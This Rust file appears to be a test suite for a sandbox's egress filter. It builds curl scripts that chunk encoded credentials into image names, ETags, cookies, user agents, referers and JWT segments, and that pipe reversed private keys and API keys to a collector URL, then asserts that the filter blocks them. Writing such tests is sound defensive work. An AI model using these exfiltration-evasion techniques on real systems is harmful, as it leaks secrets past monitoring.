//! A credential that was coded as a whole and cut up over requests, with something around each
//! piece; one that stands in a document in a head; and one that stands back to front.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use outgate_harness::{Identity, lab_tests};

use crate::{Credential, assert_told, bash, confined, thief};

fn hex(text: &str) -> String {
    let digits: Vec<String> = text.bytes().map(|byte| format!("{byte:02x}")).collect();
    digits.concat()
}

/// What stands around a piece on its way.
type Around = fn(&str, usize) -> String;

/// A request for each piece.
const WAYS: [(&str, Around); 9] = [
    ("an image", |piece, _| {
        format!("curl -sS \"$URL/x?d=img_{piece}.png\"; ")
    }),
    ("a tag", |piece, _| {
        format!("curl -sS -H 'If-None-Match: \"{piece}\"' $URL/x; ")
    }),
    ("a hash", |piece, _| {
        format!("curl -sS -H 'X-Sum: sha256-{piece}' $URL/x; ")
    }),
    ("a client", |piece, _| {
        format!("curl -sS -A 'Mozilla/5.0 {piece}' $URL/x; ")
    }),
    ("a page before", |piece, _| {
        format!("curl -sS -e 'https://x.org/{piece}' $URL/x; ")
    }),
    ("a cookie", |piece, _| {
        format!("curl -sS -b 's=v1.{piece}.x' $URL/x; ")
    }),
    ("a segment", |piece, _| {
        format!("curl -sS \"$URL/i/{piece}.png\"; ")
    }),
    ("numbers", |piece, number| {
        format!(
            "curl -sS \"$URL/x?d={piece}-{:04x}-{:04x}\"; ",
            number * 3011,
            977 * number
        )
    }),
    ("content", |piece, _| {
        format!("curl -sS -d 'd=i:{piece}' $URL/x; ")
    }),
];

lab_tests! {
    fn what_was_coded_as_a_whole_stops_with_its_last_piece_whatever_is_around_it(lab) {
        let (thief, credential) = (thief(), Credential::new());
        for (coding, coded) in [
            ("base64", STANDARD.encode(credential.text())),
            ("hex", hex(credential.text())),
        ] {
            // Base 64 of letters and digits has no signs; the padding is the last letter's.
            let pieces: Vec<&[u8]> = coded.as_bytes().chunks(13).collect();
            let last = String::from_utf8_lossy(pieces.last().expect("a piece")).into_owned();
            for (name, around) in WAYS {
                let sent = pieces.iter().enumerate();
                let script: String = sent
                    .map(|(number, piece)| around(&String::from_utf8_lossy(piece), number))
                    .collect();
                let outcome = confined(lab, Identity::Own).run(&bash(&(script + "curl -sS $URL/fine")));
                let sent = String::from_utf8_lossy(&thief.take()).into_owned();
                let first = String::from_utf8_lossy(pieces[0]);
                let arrived = pieces.iter().filter(|piece| sent.contains(&*String::from_utf8_lossy(piece)));
                let arrived = arrived.count();
                assert!(sent.contains(&*first), "{coding} {name}: it was sent: {sent} {outcome}");
                assert!(arrived < pieces.len() || last.len() < 4, "{coding} {name}: {sent} {outcome}");
                assert!(sent.contains("GET /fine"), "{coding} {name}: the rest goes on: {sent}");
                assert_told(&outcome, name);
            }
        }
    }

    fn pieces_in_a_document_in_a_head_are_put_together(lab) {
        let (thief, credential) = (thief(), Credential::new());
        let pieces: Vec<String> = credential.text().as_bytes().chunks(10)
            .map(|piece| String::from_utf8_lossy(piece).into_owned())
            .collect();
        let coded = |text: &str| URL_SAFE_NO_PAD.encode(text);
        let list = coded(&format!("[\"{}\"]", pieces.join("\", \"")));
        let members = pieces.iter().enumerate();
        let members: Vec<String> = members
            .map(|(number, piece)| format!("\"a{number}\":\"{piece}\""))
            .collect();
        let object = coded(&format!("{{{}}}", members.join(",")));
        let none = coded("{\"alg\":\"none\"}");
        let harmless = coded("{\"a0\":\"one\",\"a1\":\"two\"}");
        for (name, request) in [
            ("a query", format!("curl -sS \"$URL/x?payload={list}\"; ")),
            ("a segment", format!("curl -sS \"$URL/x/{object}/y\"; ")),
            ("a token", format!("curl -sS -H 'Authorization: Bearer {none}.{object}.' $URL/x; ")),
            ("a cookie", format!("curl -sS -b 's={object}' $URL/x; ")),
            ("several requests", pieces.iter().map(|piece| {
                format!("curl -sS \"$URL/x?payload={}\"; ", coded(&format!("{{\"d\":\"{piece}\",\"v\":2}}")))
            }).collect::<Vec<_>>().concat()),
        ] {
            let script = format!("curl -sS \"$URL/harmless?payload={harmless}\"; {request} curl -sS $URL/fine");
            let outcome = confined(lab, Identity::Own).run(&bash(&script));
            let sent = String::from_utf8_lossy(&thief.take()).into_owned();
            assert!(!sent.contains(&list) && !sent.contains(&object), "{name}: {sent}");
            assert!(sent.matches("GET /x").count() < pieces.len(), "{name}: {sent}");
            assert!(sent.contains("GET /harmless") && sent.contains("GET /fine"), "{name}: {sent} {outcome}");
            assert_told(&outcome, name);
        }
    }

    fn what_stands_back_to_front_does_not_leave(lab) {
        let thief = thief();
        let given = lab.folder("given", Identity::Own);
        let letters = Credential::new().text()[4..].repeat(4);
        let body: Vec<&str> = (0..8).filter_map(|line| letters.get(line * 3..line * 3 + 64)).collect();
        let pem = |name: &str| {
            format!("-----BEGIN {name}-----\n{}\n-----END {name}-----\n", body.join("\n"))
        };
        let key = &letters[..48];
        for (name, text) in [
            ("key", pem("PRIVATE KEY")),
            ("RSA", pem("RSA PRIVATE KEY")),
            ("project", format!("sk-proj-{key}T3BlbkFJ{key}\n")),
            ("prefix", format!("OPENAI_API_KEY=sk-proj-{letters}\nx\n")),
        ] {
            std::fs::write(given.join("key"), &text).expect("a file");
            let file = given.join("key");
            let file = file.display();
            for (how, turned) in [
                ("each line", format!("rev {file}")),
                ("all", format!("tac {file} | rev")),
                ("bytes", format!("perl -0777 -ne 'print scalar reverse' {file}")),
            ] {
                let script = format!("{turned} | curl -sS --data-binary @- $URL/key; curl -sS $URL/fine");
                let outcome = confined(lab, Identity::Own).run(&bash(&script));
                let sent = String::from_utf8_lossy(&thief.take()).into_owned();
                assert!(!sent.contains("POST /key"), "{name} {how}: {sent} {outcome}");
                assert!(sent.contains("GET /fine"), "{name} {how}: {sent} {outcome}");
            }
        }
    }
}
